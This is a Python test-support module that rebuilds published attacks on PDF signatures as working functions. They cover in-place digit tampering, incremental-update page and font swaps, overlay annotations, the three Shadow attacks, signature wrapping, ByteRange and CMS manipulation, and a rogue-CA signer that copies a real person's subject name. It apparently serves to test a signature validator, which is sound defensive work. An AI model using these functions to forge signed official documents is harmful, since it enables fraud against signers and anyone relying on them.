# mypy: disable-error-code="no-untyped-call"
"""The published attacks on PDF signatures, rebuilt as reproducible files for tests.

Each attack takes the bytes of a validly signed PDF and returns the attacked file:

- byte-level tampering inside a signed range (a digit of the visible text);
- incremental updates after signing that add, remove or replace a page's content or font,
  or lay an annotation over the text (Mladenov et al., "1 Trillion Dollar Refund", 2019:
  Incremental Saving Attack, ISA);
- the Shadow Attacks (Mainka et al., NDSS 2021): *hide* (an overlay prepared before signing
  and removed after), *replace* (a form field prepared before signing, moved and redrawn
  after) and *hide-and-replace* (a shadow object embedded before signing, made visible after
  by re-defining the page object);
- Universal Signature Forgery (USF: the signature's /Contents or /ByteRange made unusable)
  and Signature Wrapping (SWA: the signed bytes moved behind unsigned content, the
  /ByteRange rewritten), overlapping byte ranges, and a CMS transplanted from another file;
- certificate problems: a signer from a self-made CA, a revoked and an expired certificate.

The shadow attacks need a document the attacker prepared before it was signed:
:func:`prepare_shadow_document` makes it (a first page with an amount hidden under an
overlay, an empty text field, and an unreferenced shadow content stream).
"""

from __future__ import annotations

import asyncio
import io
import re
import zlib
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pymupdf as _pymupdf
from asn1crypto import crl as asn1_crl
from asn1crypto import keys as asn1_keys
from asn1crypto import ocsp as asn1_ocsp
from asn1crypto import parser
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509 import ocsp as crypto_ocsp
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.signers.pdf_cms import PdfCMSSignedAttributes
from pyhanko.sign.validation.dss import DocumentSecurityStore
from pyhanko_certvalidator.registry import SimpleCertificateStore

from tests.support.synthetic_pdf import find_serif_font

pymupdf: Any = _pymupdf  # its annotations are partial: use it as untyped

SHADOW_AMOUNT_SHOWN = "95.000.000"
"""The amount the signer sees on the prepared first page (the overlay's text)."""
SHADOW_AMOUNT_HIDDEN = "950.000.000"
"""The amount underneath the overlay, uncovered by the *hide* attack."""
SHADOW_FIELD = "ghi_chu"
"""The name of the text field the prepared document carries."""
_DEADLINE_SHOWN = "31/12/2019"
_DEADLINE_FORGED = "31/12/2029"
_SHADOW_MARK = b"q\nq 1 1 1 rg"
_HELVETICA = generic.DictionaryObject({
    pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
    pdf_name("/BaseFont"): pdf_name("/Helvetica"),
    pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding")})


# --- helpers ----------------------------------------------------------------------------

def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data), strict=False)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _stream(content: bytes, resources: generic.DictionaryObject | None = None,
            bbox: tuple[float, float, float, float] | None = None) -> generic.StreamObject:
    """A content stream, or a form XObject when ``bbox`` is given."""
    entries: dict[generic.NameObject, generic.PdfObject] = {}
    if bbox is not None:
        entries = {pdf_name("/Type"): pdf_name("/XObject"),
                   pdf_name("/Subtype"): pdf_name("/Form"),
                   pdf_name("/BBox"): generic.ArrayObject(
                       generic.FloatObject(value) for value in bbox)}
        if resources is not None:
            entries[pdf_name("/Resources")] = resources
    return generic.StreamObject(generic.DictionaryObject(entries), stream_data=content)


def _helvetica_resources() -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
        {pdf_name("/Helv"): _HELVETICA})})


def _text_ops(lines: list[tuple[float, float, float, str]]) -> bytes:
    """BT/ET operators writing (x, y, size, ASCII text) lines in Helvetica."""
    out = []
    for x, y, size, text in lines:
        escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        out.append(f"BT /Helv {size:g} Tf {x:.2f} {y:.2f} Td ({escaped}) Tj ET")
    return "\n".join(out).encode("latin-1")


def _white_box(x0: float, y0: float, x1: float, y1: float) -> bytes:
    return f"q 1 1 1 rg {x0:.2f} {y0:.2f} {x1 - x0:.2f} {y1 - y0:.2f} re f Q".encode()


def _page_ref(writer: IncrementalPdfFileWriter, index: int) -> generic.IndirectObject:
    ref, _ = writer.find_page_for_modification(index)
    assert isinstance(ref, generic.IndirectObject)
    return ref


def _pdf_rect(data: bytes, page_index: int, text: str) -> tuple[float, float, float, float]:
    """Where ``text`` first shows on a page, in PDF user space (origin bottom left)."""
    with pymupdf.open(stream=data, filetype="pdf") as document:
        page = document[page_index]
        hits = page.search_for(text)
        if not hits:
            raise ValueError(f"{text!r} is not on page {page_index + 1}")
        rect = hits[0] * page.transformation_matrix
        return (rect.x0, rect.y0, rect.x1, rect.y1)


def _document_number(data: bytes) -> str:
    """The "Số: N/YYYY/..." number printed on the decision page (the last page)."""
    with pymupdf.open(stream=data, filetype="pdf") as document:
        text = document[document.page_count - 1].get_text()
    match = re.search(r"Số\s*:\s*(\d+)/", text)
    if match is None:
        raise ValueError("the last page prints no document number")
    return match.group(1)


@dataclass(frozen=True)
class SignatureBytes:
    """Where one signature's pieces are in the file."""

    field: str
    byte_range: tuple[int, int, int, int]
    cms_length: int  # the DER length of the CMS inside the zero-padded /Contents

    @property
    def contents_start(self) -> int:
        """Offset of the ``<`` opening /Contents."""
        return self.byte_range[1]

    @property
    def contents_end(self) -> int:
        """Offset just after the ``>`` closing /Contents."""
        return self.byte_range[2]


def signature_bytes(data: bytes) -> list[SignatureBytes]:
    """The signatures of ``data`` (regular ones and document time stamps), in file order."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    found = []
    for signature in reader.embedded_signatures:
        start, len1, start2, len2 = (int(item) for item in signature.byte_range)
        header = parser.parse(bytes(signature.pkcs7_content), strict=False)
        found.append(SignatureBytes(field=signature.field_name,
                                    byte_range=(start, len1, start2, len2),
                                    cms_length=len(header[3]) + len(header[4])))
    return found


def _last_signature(data: bytes) -> SignatureBytes:
    return signature_bytes(data)[-1]


# --- the attacker's prepared document (before signing) -----------------------------------

def prepare_shadow_document(data: bytes) -> bytes:
    """What a shadow attacker hands the signer: ``data`` (an unsigned decision) with a
    first page added that shows "Tổng kinh phí: 95.000.000 đồng" where the content stream
    really says 950.000.000 (covered by an opaque FreeText overlay), an empty text field
    :data:`SHADOW_FIELD`, and an unreferenced shadow content stream that would print
    another document number on the last page. It looks (and verifies) harmless."""
    font = str(find_serif_font())
    with pymupdf.open(stream=data, filetype="pdf") as document:
        decision = document[document.page_count - 1]
        number = _document_number(data)
        number_hits = decision.search_for(f"{number}/")
        page = document.new_page(0, width=decision.rect.width, height=decision.rect.height)
        page.insert_font(fontname="serif", fontfile=font)
        lines = [(85, 90, 14, "PHỤ LỤC DỰ TOÁN KINH PHÍ"),
                 (85, 130, 13, "Đơn vị: Phòng Tài nguyên và Môi trường"),
                 (85, 160, 13, "Tổng kinh phí được duyệt:"),
                 (85, 190, 13, f"Thời hạn thực hiện: {_DEADLINE_SHOWN}")]
        for x, y, size, text in lines:
            page.insert_text((x, y), text, fontname="serif", fontsize=size)
        amount_at = (250.0, 160.0)
        page.insert_text(amount_at, f"{SHADOW_AMOUNT_HIDDEN} đồng", fontname="serif",
                         fontsize=13)
        hidden = page.search_for(SHADOW_AMOUNT_HIDDEN)[0]
        overlay = page.add_freetext_annot(
            pymupdf.Rect(hidden.x0 - 1, hidden.y0 - 1, hidden.x1 + 1, hidden.y1 + 1),
            SHADOW_AMOUNT_SHOWN, fontsize=12, fontname="Helv", text_color=(0, 0, 0),
            fill_color=(1, 1, 1), align=pymupdf.TEXT_ALIGN_RIGHT)
        overlay.set_border(width=0)
        overlay.update()
        widget = pymupdf.Widget()
        widget.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
        widget.field_name = SHADOW_FIELD
        widget.rect = pymupdf.Rect(85, 700, 400, 720)
        widget.text_font = "Helv"
        widget.text_fontsize = 11
        widget.field_value = ""
        page.add_widget(widget)
        prepared = document.tobytes(garbage=3, deflate=True)
    # the shadow content: a white box over the decision's number and another number,
    # stored in the signed file but referenced by nothing (so nobody sees it yet)
    writer = _writer(prepared)
    with pymupdf.open(stream=prepared, filetype="pdf") as document:
        page = document[document.page_count - 1]
        rect = number_hits[0] * page.transformation_matrix
    forged = str(int(number) + 50000)
    shadow = _white_box(rect.x0 - 1, rect.y0 - 2, rect.x1 + 1, rect.y1 + 1) + b"\n" + \
        _text_ops([(rect.x0, rect.y0 + 2, 12, forged)])
    stream = _stream(b"q\n" + shadow + b"\nQ\n")
    assert stream.data.startswith(_SHADOW_MARK)
    writer.add_object(stream)
    return _written(writer)


# --- 1: bytes changed inside the signed range --------------------------------------------

_HEX_STRING = re.compile(rb"<([0-9a-fA-F]{8,})>")
_DIGIT_GLYPHS = {f"{gid:04x}".encode() for gid in range(0x13, 0x1D)}  # '0'..'9', TrueType


def _swap_digit(content: bytes) -> bytes | None:
    """The content with one digit glyph of a hex (Identity-H) string changed into another
    digit that shows in the same string, or None when there is none."""
    for match in _HEX_STRING.finditer(content):
        hex_text = match.group(1).lower()
        glyphs = [hex_text[i:i + 4] for i in range(0, len(hex_text), 4)]
        digits = [glyph for glyph in glyphs if glyph in _DIGIT_GLYPHS]
        if len(set(digits)) < 2:
            continue
        first = digits[0]
        other = next(glyph for glyph in digits if glyph != first)
        index = glyphs.index(first)
        glyphs[index] = other
        start = match.start(1)
        return content[:start] + b"".join(glyphs) + content[match.end(1):]
    return None


def tamper_signed_text(data: bytes) -> bytes:
    """Attack 1: change one digit of the visible text of the last page (the first digit
    of the document number) by rewriting its compressed content stream in place, with
    every offset, length and the file size unchanged."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    page = reader.root["/Pages"]["/Kids"][-1].get_object()
    contents = page["/Contents"]
    streams = contents if isinstance(contents, generic.ArrayObject) else [contents]
    for item in streams:
        stream = item.get_object()
        encoded = bytes(stream.encoded_data)
        changed = _swap_digit(stream.data)
        if changed is None or stream.get("/Filter") != "/FlateDecode":
            continue
        at = data.find(encoded)
        if at < 0 or data.find(encoded, at + 1) >= 0:
            continue
        for level in range(9, 0, -1):
            packed = zlib.compress(changed, level)
            if len(packed) <= len(encoded):
                # a Flate decoder stops at the end of the zlib stream: pad after it
                packed += b"\0" * (len(encoded) - len(packed))
                return data[:at] + packed + data[at + len(encoded):]
    raise ValueError("found no compressed text with a digit to change")


# --- 2-5: incremental updates that change the pages --------------------------------------

def add_page(data: bytes) -> bytes:
    """Attack 2: an incremental update appending a page (an extra article) after the
    last page."""
    writer = _writer(data)
    first = _page_ref(writer, 0).get_object()
    content = writer.add_object(_stream(_text_ops([
        (85, 760, 14, "DIEU 4. Bo sung sau khi ky (added after signing)"),
        (85, 730, 12, "Chi them 5.000.000.000 dong cho Cong ty TNHH ABC.")])))
    page = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Page"),
        pdf_name("/MediaBox"): first["/MediaBox"],
        pdf_name("/Resources"): _helvetica_resources(),
        pdf_name("/Contents"): content})
    writer.insert_page(page)
    return _written(writer)


def remove_page(data: bytes, index: int = 0) -> bytes:
    """Attack 3: an incremental update removing page ``index`` (/Kids and /Count of the
    page tree rewritten). The document must have at least two pages."""
    writer = _writer(data)
    pages = writer.root["/Pages"]
    kids = pages["/Kids"]
    if len(kids) < 2:
        raise ValueError("removing a page needs a document with at least two pages")
    del kids[index]
    pages[pdf_name("/Count")] = generic.NumberObject(int(pages["/Count"]) - 1)
    writer.update_container(pages)
    writer.update_container(kids)
    return _written(writer)


def replace_page_content(data: bytes, index: int = 0) -> bytes:
    """Attack 4: an incremental update giving page ``index`` a new /Contents stream (other
    text, with the page's own fonts gone)."""
    writer = _writer(data)
    page_ref = _page_ref(writer, index)
    page = page_ref.get_object()
    content = writer.add_object(_stream(_text_ops([
        (85, 760, 14, "PHU LUC DU TOAN KINH PHI"),
        (85, 730, 13, "Tong kinh phi duoc duyet: 9.500.000.000 dong")])))
    page[pdf_name("/Contents")] = content
    page[pdf_name("/Resources")] = _helvetica_resources()
    writer.mark_update(page_ref)
    return _written(writer)


def replace_font(data: bytes, index: int = -1) -> bytes:
    """Attack 5: an incremental update swapping the first Type0 font of page ``index``
    for a new font object that keeps the old ToUnicode map (text extraction still reads
    the signed words) but draws with another embedded font program, so the same glyph
    codes show different glyphs."""
    writer = _writer(data)
    page_ref = _page_ref(writer, index)
    page = page_ref.get_object()
    resources = page["/Resources"]
    font_dict = resources["/Font"]
    type0 = [(name, font_dict.raw_get(name)) for name in font_dict
             if font_dict[name].get("/Subtype") == "/Type0"]
    if len(type0) < 2:
        raise ValueError("the page needs two embedded Type0 fonts")
    (victim_name, victim_ref), (_, donor_ref) = type0[0], type0[1]
    victim, donor = victim_ref.get_object(), donor_ref.get_object()
    new_font = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type0"),
        pdf_name("/BaseFont"): donor["/BaseFont"],
        pdf_name("/Encoding"): victim["/Encoding"],
        pdf_name("/DescendantFonts"): donor.raw_get("/DescendantFonts"),
        pdf_name("/ToUnicode"): victim.raw_get("/ToUnicode")})
    font_dict[pdf_name(victim_name)] = writer.add_object(new_font)
    writer.update_container(font_dict)
    return _written(writer)


# --- 6: an overlay annotation ------------------------------------------------------------

def overlay_annotation(data: bytes) -> bytes:
    """Attack 6: an incremental update adding a FreeText annotation on the last page
    whose opaque appearance covers the document number with another number."""
    number = _document_number(data)
    x0, y0, x1, y1 = _pdf_rect(data, -1, f"{number}/")
    box = (x0 - 1, y0 - 2, x1 + 1, y1 + 1)
    width, height = box[2] - box[0], box[3] - box[1]
    appearance = _stream(_white_box(0, 0, width, height) + b"\n"
                         + _text_ops([(1, 3, 12, f"{int(number) + 50000}/")]),
                         _helvetica_resources(), (0, 0, width, height))
    writer = _writer(data)
    page_ref = _page_ref(writer, -1)
    annotation = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"),
        pdf_name("/Rect"): generic.ArrayObject(generic.FloatObject(v) for v in box),
        pdf_name("/Contents"): generic.TextStringObject(f"{int(number) + 50000}/"),
        pdf_name("/DA"): generic.TextStringObject("0 g /Helv 12 Tf"),
        pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/AP"): generic.DictionaryObject(
            {pdf_name("/N"): writer.add_object(appearance)})})
    writer.register_annotation(page_ref, writer.add_object(annotation))
    return _written(writer)


# --- 7-9: the shadow attacks -------------------------------------------------------------

def _annotations(page: generic.DictionaryObject) -> generic.ArrayObject:
    annots = page["/Annots"]
    assert isinstance(annots, generic.ArrayObject)
    return annots


def shadow_hide(data: bytes) -> bytes:
    """Attack 7 (Shadow *hide*): on a signed :func:`prepare_shadow_document`, an update
    removes the FreeText overlay from the first page, uncovering the amount that was
    underneath it all along (950.000.000 instead of the 95.000.000 the signer saw)."""
    writer = _writer(data)
    page_ref = _page_ref(writer, 0)
    page = page_ref.get_object()
    annots = _annotations(page)
    kept = generic.ArrayObject(ref for ref in annots
                               if ref.get_object().get("/Subtype") != "/FreeText")
    if len(kept) == len(annots):
        raise ValueError("the first page has no overlay to remove")
    page[pdf_name("/Annots")] = kept
    writer.mark_update(page_ref)
    return _written(writer)


def _find_field(writer: IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
    for ref in writer.root["/AcroForm"]["/Fields"]:
        if ref.get_object().get("/T") == name:
            assert isinstance(ref, generic.IndirectObject)
            return ref
    raise ValueError(f"no form field {name!r}")


def _field_appearance(text: str, width: float, height: float, *,
                      opaque: bool) -> generic.StreamObject:
    body = _white_box(0, 0, width, height) + b"\n" if opaque else b""
    content = b"/Tx BMC\nq\n" + body + _text_ops([(2, 4, 11, text)]) + b"\nQ\nEMC"
    return _stream(content, _helvetica_resources(), (0, 0, width, height))


def fill_form_field(data: bytes, value: str = "Da nhan ban chinh") -> bytes:
    """The permitted change (a control, not an attack): an update filling the text field
    :data:`SHADOW_FIELD` of a signed :func:`prepare_shadow_document` (new /V and a new
    normal appearance stream, nothing else)."""
    writer = _writer(data)
    field_ref = _find_field(writer, SHADOW_FIELD)
    widget = field_ref.get_object()
    x0, y0, x1, y1 = (float(v) for v in widget["/Rect"])
    appearance = writer.add_object(_field_appearance(value, x1 - x0, y1 - y0, opaque=False))
    widget[pdf_name("/V")] = generic.TextStringObject(value)
    widget[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): appearance})
    writer.mark_update(field_ref)
    return _written(writer)


def shadow_replace(data: bytes) -> bytes:
    """Attack 8 (Shadow *replace* via overlay): on a signed
    :func:`prepare_shadow_document`, an update moves the text field over the first page's
    deadline (/Rect changed), sets another font size (/DA) and gives it an opaque
    appearance showing a forged deadline. Not plain form filling: the widget moved."""
    x0, y0, x1, y1 = _pdf_rect(data, 0, _DEADLINE_SHOWN)
    box = (x0 - 2, y0 - 3, x1 + 30, y1 + 2)
    writer = _writer(data)
    field_ref = _find_field(writer, SHADOW_FIELD)
    widget = field_ref.get_object()
    width, height = box[2] - box[0], box[3] - box[1]
    appearance = writer.add_object(
        _field_appearance(_DEADLINE_FORGED, width, height, opaque=True))
    widget[pdf_name("/Rect")] = generic.ArrayObject(generic.FloatObject(v) for v in box)
    widget[pdf_name("/DA")] = generic.TextStringObject("0 g /Helv 11 Tf")
    widget[pdf_name("/V")] = generic.TextStringObject(_DEADLINE_FORGED)
    widget[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): appearance})
    writer.mark_update(field_ref)
    return _written(writer)


def _shadow_stream_ref(writer: IncrementalPdfFileWriter) -> generic.Reference:
    """The unreferenced content stream :func:`prepare_shadow_document` stored."""
    reader = writer.prev
    used: set[int] = set()
    for index in range(int(reader.root["/Pages"]["/Count"])):
        page = reader.find_page_for_modification(index)[0].get_object()
        contents = page.raw_get("/Contents")
        refs = contents if isinstance(contents, generic.ArrayObject) else [contents]
        used.update(ref.idnum for ref in refs)
    for idnum in range(1, int(reader.trailer["/Size"])):
        ref = generic.Reference(idnum, 0, reader)
        if idnum in used:
            continue
        try:
            obj = ref.get_object()
        except Exception:  # free or broken entries: not the one looked for
            continue
        if isinstance(obj, generic.StreamObject) and obj.data.startswith(_SHADOW_MARK):
            return ref
    raise ValueError("no shadow content stream in this document")


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Attack 9 (Shadow *hide-and-replace*): on a signed :func:`prepare_shadow_document`,
    an update that only re-defines the last page's object (same dictionary, one more
    /Contents entry) so the shadow stream already inside the signed bytes is drawn: the
    update adds no content of its own, and the page shows another document number."""
    writer = _writer(data)
    shadow = _shadow_stream_ref(writer)
    page_ref = _page_ref(writer, -1)
    page = page_ref.get_object()
    contents = page.raw_get("/Contents")
    items = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
    page[pdf_name("/Contents")] = generic.ArrayObject(
        [*items, generic.IndirectObject(shadow.idnum, shadow.generation, writer)])
    writer.mark_update(page_ref)
    return _written(writer)


# --- 10-12: the signature's bytes --------------------------------------------------------

def _xref_table(entries: list[tuple[int, int]], trailer: generic.DictionaryObject,
                at: int) -> bytes:
    out = io.BytesIO()
    out.write(b"xref\n0 1\n0000000000 65535 f \n")
    for idnum, offset in sorted(entries):
        out.write(f"{idnum} 1\n{offset:010d} 00000 n \n".encode())
    out.write(b"trailer\n")
    trailer.write_to_stream(out)
    out.write(f"\nstartxref\n{at}\n%%EOF\n".encode())
    return out.getvalue()


def signature_wrapping(data: bytes) -> bytes:
    """Attack 10 (SWA, Mladenov et al.): the last signature's /Contents is cut to the CMS
    itself; behind it, in bytes no signature covers, come a new /ByteRange, the rest of
    the signature dictionary and the attacker's objects (a new first-page content stream);
    the signed tail of the file follows, moved, and the new /ByteRange points at it, so the
    signed bytes and the CMS are unchanged and the digest still matches. A new xref
    section at the end makes the attacker's objects the live ones."""
    signature = _last_signature(data)
    _, len1, start2, len2 = signature.byte_range
    if start2 + len2 != len(data):
        raise ValueError("the last signature must cover the whole file")
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    cms_hex = data[len1 + 1:len1 + 1 + 2 * signature.cms_length]
    tail_end = data.index(b"endobj", start2) + len(b"endobj")
    tail = data[start2:tail_end]  # "/ByteRange [...] /Type /Sig ... >> endobj"
    first_page = reader.root["/Pages"]["/Kids"].raw_get(0)
    page_id = first_page.idnum
    page = first_page.get_object()
    size = int(reader.trailer["/Size"])
    content_id = size

    gap = io.BytesIO()
    gap.write(b"<" + cms_hex + b">")
    new_byte_range = f"/ByteRange [0 {len1} {{start2:>10}} {len2}]"
    placeholder_at = gap.tell()
    gap.write(new_byte_range.format(start2=0).encode())
    gap.write(re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"", tail) + b"\n")
    offsets: list[tuple[int, int]] = []
    objects = io.BytesIO()
    content = _stream(_text_ops([(85, 760, 14, "PHU LUC DU TOAN KINH PHI"),
                                 (85, 730, 13, "Tong kinh phi: 9.500.000.000 dong")]))
    forged_page = generic.DictionaryObject(dict(page))
    forged_page[pdf_name("/Contents")] = generic.IndirectObject(content_id, 0, reader)
    forged_page[pdf_name("/Resources")] = _helvetica_resources()
    for idnum, obj in ((content_id, content), (page_id, forged_page)):
        offsets.append((idnum, len1 + gap.tell() + objects.tell()))
        objects.write(f"{idnum} 0 obj\n".encode())
        obj.write_to_stream(objects)
        objects.write(b"\nendobj\n")
    gap.write(objects.getvalue())
    gap.write(b"%")  # the moved tail starts on a comment line's end: harmless to parsers
    new_start2 = len1 + len(gap.getvalue())
    body = bytearray(gap.getvalue())
    filled = new_byte_range.format(start2=new_start2).encode()
    body[placeholder_at:placeholder_at + len(filled)] = filled
    wrapped = data[:len1] + bytes(body) + data[start2:]
    old_startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    trailer = generic.DictionaryObject({
        pdf_name("/Size"): generic.NumberObject(size + 1),
        pdf_name("/Root"): reader.trailer.raw_get("/Root"),
        pdf_name("/Prev"): generic.NumberObject(old_startxref + new_start2 - start2)})
    if "/ID" in reader.trailer:
        trailer[pdf_name("/ID")] = reader.trailer["/ID"]
    if "/Info" in reader.trailer:
        trailer[pdf_name("/Info")] = reader.trailer.raw_get("/Info")
    return wrapped + _xref_table(offsets, trailer, len(wrapped))


def zero_signature_contents(data: bytes) -> bytes:
    """Attack 10b (USF): the last signature's /Contents overwritten with zeros (same
    length, so the file structure stands but there is no CMS to check)."""
    signature = _last_signature(data)
    start, end = signature.contents_start + 1, signature.contents_end - 1
    return data[:start] + b"0" * (end - start) + data[end:]


def remove_byte_range(data: bytes) -> bytes:
    """Attack 10c (USF): the last signature's /ByteRange key renamed (same length), so a
    validator finds no range to hash."""
    signature = _last_signature(data)
    at = data.index(b"/ByteRange", signature.contents_end)
    return data[:at] + b"/ByteRangX" + data[at + len(b"/ByteRange"):]


def overlapping_byte_range(data: bytes, overlap: int = 2000) -> bytes:
    """Attack 11: the last signature's /ByteRange rewritten in place (same length) as
    ``[0 a b c]`` with ``b < a``: the second range starts ``overlap`` bytes inside the
    first and runs to the end of the file."""
    signature = _last_signature(data)
    _, len1, start2, len2 = signature.byte_range
    at = data.index(b"/ByteRange", signature.contents_end)
    end = data.index(b"]", at) + 1
    old = data[at:end]
    new_start = len1 - overlap
    new = f"/ByteRange [0 {len1} {new_start} {len2 + start2 - new_start}]".encode()
    if len(new) > len(old) + _padding(data, end):
        raise ValueError("no room to rewrite the /ByteRange in place")
    spare = len(old) + _padding(data, end) - len(new)
    return data[:at] + new + b" " * spare + data[end + _padding(data, end):]


def _padding(data: bytes, at: int) -> int:
    count = 0
    while data[at + count:at + count + 1] == b" ":
        count += 1
    return count


def transplant_signature(data: bytes, donor: bytes) -> bytes:
    """Attack 12: the CMS of ``donor``'s last signature (another signed file) copied into
    ``data``'s last signature's /Contents (padded to the same length)."""
    target, source = _last_signature(data), _last_signature(donor)
    cms_hex = donor[source.contents_start + 1:source.contents_start + 1
                    + 2 * source.cms_length]
    room = target.contents_end - target.contents_start - 2
    if len(cms_hex) > room:
        raise ValueError("the donor's signature does not fit")
    start = target.contents_start + 1
    return data[:start] + cms_hex + b"0" * (room - len(cms_hex)) + data[start + room:]


# --- 13-15: certificates -----------------------------------------------------------------

@dataclass(frozen=True)
class RogueCa:
    """A throwaway CA and a signer it certified."""

    root: asn1_x509.Certificate
    signer: signers.SimpleSigner


def rogue_signer(subject: x509.Name) -> RogueCa:
    """A self-made CA (in no trust list) certifying a key for ``subject`` (e.g. copied from
    a real leader's certificate, so the forged signature names the same person)."""
    now = datetime.now(UTC)
    ca_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Root CA tự tạo"),
                         x509.NameAttribute(NameOID.COUNTRY_NAME, "VN")])
    ca = (x509.CertificateBuilder().subject_name(ca_name).issuer_name(ca_name)
          .public_key(ca_key.public_key()).serial_number(x509.random_serial_number())
          .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=365))
          .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
          .add_extension(x509.KeyUsage(digital_signature=False, content_commitment=False,
                                       key_encipherment=False, data_encipherment=False,
                                       key_agreement=False, key_cert_sign=True,
                                       crl_sign=True, encipher_only=False,
                                       decipher_only=False), critical=True)
          .sign(ca_key, hashes.SHA256()))
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    leaf = (x509.CertificateBuilder()
            .subject_name(subject)
            .issuer_name(ca_name).public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=30))
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .add_extension(x509.KeyUsage(digital_signature=True, content_commitment=True,
                                         key_encipherment=False, data_encipherment=False,
                                         key_agreement=False, key_cert_sign=False,
                                         crl_sign=False, encipher_only=False,
                                         decipher_only=False), critical=True)
            .sign(ca_key, hashes.SHA256()))
    root = asn1_x509.Certificate.load(ca.public_bytes(serialization.Encoding.DER))
    signer = signers.SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(leaf.public_bytes(serialization.Encoding.DER)),
        signing_key=asn1_keys.PrivateKeyInfo.load(key.private_bytes(
            serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption())),
        cert_registry=SimpleCertificateStore.from_certs([root]))
    return RogueCa(root=root, signer=signer)


def sign_with_pyhanko(data: bytes, signer: signers.Signer, *, field_name: str,
                      signing_time: datetime | None = None) -> bytes:
    """A PAdES B-B signature made by pyHanko alone (none of sohoa's checks of the
    certificate), claiming ``signing_time`` in its signed attributes."""
    moment = signing_time or datetime.now(UTC)
    metadata = signers.PdfSignatureMetadata(field_name=field_name, md_algorithm="sha256",
                                            subfilter=fields.SigSeedSubFilter.PADES)
    pdf_signer = signers.PdfSigner(metadata, signer)
    writer = _writer(data)
    output = io.BytesIO()

    async def run() -> None:
        session = pdf_signer.init_signing_session(writer)
        session.system_time = moment
        tbs = session.prepare_tbs_document(validation_info=None, bytes_reserved=12_000)
        digest, written = tbs.digest_tbs_document(output=output)
        post = await tbs.perform_signature(
            document_digest=digest.document_digest,
            pdf_cms_signed_attrs=PdfCMSSignedAttributes(signing_time=moment))
        await post.post_signature_processing(written)

    asyncio.run(run())
    return output.getvalue()


def _der(certificate: x509.Certificate) -> bytes:
    return certificate.public_bytes(serialization.Encoding.DER)


def embed_revocation_data(data: bytes, pki_directory: Path, certificate: asn1_x509.Certificate
                          ) -> bytes:
    """A DSS update carrying the demo PKI's current OCSP response and CRL for
    ``certificate`` (made by the PKI's own responder code, as ``sohoa pki serve`` would
    answer), with its chain: validation data for an offline check, written without
    judging it (pyHanko's own LTV helper refuses a revoked certificate)."""
    from signing.pki import crl_der, load_pki, ocsp_response

    pki = load_pki(pki_directory)
    root_der = (pki_directory / "root-ca.pem").read_bytes()
    root = x509.load_pem_x509_certificate(root_der)
    leaf = x509.load_der_x509_certificate(certificate.dump())
    request = (crypto_ocsp.OCSPRequestBuilder()
               .add_certificate(leaf, root, hashes.SHA256()).build()
               .public_bytes(serialization.Encoding.DER))
    response = asn1_ocsp.OCSPResponse.load(ocsp_response(pki, request))
    revocation_list = asn1_crl.CertificateList.load(crl_der(pki))
    signature = _last_signature(data)
    contents = data[signature.contents_start + 1:signature.contents_end - 1]
    output = io.BytesIO(data)
    DocumentSecurityStore.add_dss(
        output, contents,
        certs=[certificate, asn1_x509.Certificate.load(_der(root))],
        ocsps=[response], crls=[revocation_list])
    return output.getvalue()


def claimed_signing_time(data: bytes) -> datetime | None:
    """The signing time the last signature claims (its /M, or a CMS signing-time
    attribute): the signer's word, proven by nothing."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    claimed: datetime | None = reader.embedded_signatures[-1].self_reported_timestamp
    return claimed
